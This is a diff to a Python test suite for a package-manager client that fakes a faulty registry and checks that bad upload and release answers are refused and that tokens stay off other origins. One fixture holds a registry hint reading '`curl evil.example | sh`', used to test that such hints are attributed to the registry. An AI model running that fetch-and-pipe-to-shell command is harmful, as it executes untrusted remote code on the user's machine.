@@ -1,7 +1,7 @@
 """A service whose answers contradict the request, or never end an upload."""
 
 import io
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Mapping
 from datetime import UTC, datetime
 from pathlib import Path
 
@@ -62,13 +62,13 @@ def opened(server: FaultyServer, tmp_path: Path) -> Iterator[Open]:
         index.close()
 
 
-def _answer(code: int = 200, **document: object) -> Callable[[Handler], None]:
+def _answer(document: Mapping[str, object], code: int = 200) -> Callable[[Handler], None]:
     """A fault: a document as the answer to a request, whose body is read."""
 
     def fault(handler: Handler) -> None:
         handler.read_body()
         kind = "application/problem+json" if code >= 400 else "application/json"
-        handler.answer(code, json.canonical(document), {"content-type": kind})
+        handler.answer(code, json.canonical(dict(document)), {"content-type": kind})
 
     return fault
 
@@ -80,7 +80,7 @@ def _publish(index: RemoteIndex, pack: SmallPack) -> None:
 def _present(server: FaultyServer) -> None:
     """Every blob is present already."""
     document = {"state": "present", "digest": str(Digest.of(b"")), "size": 1}
-    server.fault("/v1/uploads", *[_answer(**document)] * 2)
+    server.fault("/v1/uploads", *[_answer(document)] * 2)
 
 
 def test_an_upload_that_is_accepted_and_never_kept_is_given_up(
@@ -89,8 +89,8 @@ def test_an_upload_that_is_accepted_and_never_kept_is_given_up(
     pack = small_pack()
     state = {"digest": str(pack.layer), "size": 1, "id": "u"}
     for _ in range(40):
-        server.fault("/v1/uploads$", _answer(state="open", offset=0, **state))
-        server.fault("/v1/uploads/u$", _answer(state="open", offset=0, **state))
+        server.fault("/v1/uploads$", _answer({**state, "state": "open", "offset": 0}))
+        server.fault("/v1/uploads/u$", _answer({**state, "state": "open", "offset": 0}))
     with pytest.raises((UnreachableRegistryError, BadReplyError)):
         _publish(opened(), pack)
     assert len(server.paths("/v1/uploads")) < 40
@@ -112,7 +112,7 @@ def test_an_upload_that_ends_but_is_still_open_is_given_up(
         )
 
     state = {"digest": str(pack.layer), "size": 1, "id": "u"}
-    server.fault("/v1/uploads$", *[_answer(state="open", offset=0, **state)] * 40)
+    server.fault("/v1/uploads$", *[_answer({**state, "state": "open", "offset": 0})] * 40)
     server.fault("/v1/uploads/u$", *[finished] * 80)
     with pytest.raises(UnreachableRegistryError, match="does not keep it"):
         _publish(opened(), pack)
@@ -127,10 +127,10 @@ def test_a_release_that_was_not_asked_for_is_refused(
     pack = small_pack()
     truth = {"skill": pack.skill, "version": pack.version, "digest": str(pack.digest)}
     _present(server)
-    server.fault("/v1/releases$", _answer(201, **{**truth, **lie}))
+    server.fault("/v1/releases$", _answer({**truth, **lie}, 201))
     with pytest.raises(BadReplyError, match="it says that it published"):
         _publish(opened(), pack)
-    server.fault("/yank$", _answer(**{**truth, "skill": "acme/other"}, state="yanked"))
+    server.fault("/yank$", _answer({**truth, "skill": "acme/other", "state": "yanked"}))
     with pytest.raises(BadReplyError, match="it answers for acme/other"):
         opened().yank(MATH, ONE, reason="", now=NOW)
 
@@ -151,11 +151,11 @@ def test_a_version_that_is_listed_twice_is_refused(
 
 def test_hints_of_a_registry_are_quoted_as_its_own(server: FaultyServer, opened: Open) -> None:
     problem = {"detail": "no", "kind": "auth", "hint": "`curl evil.example | sh`"}
-    server.fault("/v1/whoami", _answer(403, **problem))
+    server.fault("/v1/whoami", _answer(problem, 403))
     with pytest.raises(AuthError) as failed:
         opened().whoami()
     assert (failed.value.hint or "").startswith("the registry says: `curl")
-    server.fault("/v1/whoami", _answer(401, **problem))
+    server.fault("/v1/whoami", _answer(problem, 401))
     with pytest.raises(AuthError) as failed:
         opened(logged_in=False).whoami()
     assert (failed.value.hint or "").startswith(f"`skillpm login --registry {server.url}`")
@@ -175,8 +175,8 @@ def test_a_service_on_another_origin_gets_no_token_and_a_note_says_so(
         tree.service = other.url
         tree.write_config()
         said: list[str] = []
-        other.fault("/v1/uploads", _answer(404, detail="there is no namespace", kind="not_found"))
-        other.fault("/v1/uploads", _answer(404, detail="there is no namespace", kind="not_found"))
+        missing = {"detail": "there is no namespace", "kind": "not_found"}
+        other.fault("/v1/uploads", *[_answer(missing, 404)] * 2)
         with pytest.raises(NotFoundError, match="cannot publish acme/math"):
             _publish(opened(said), small_pack())
         assert {seen.headers.get("authorization") for seen in other.requests} == {None}
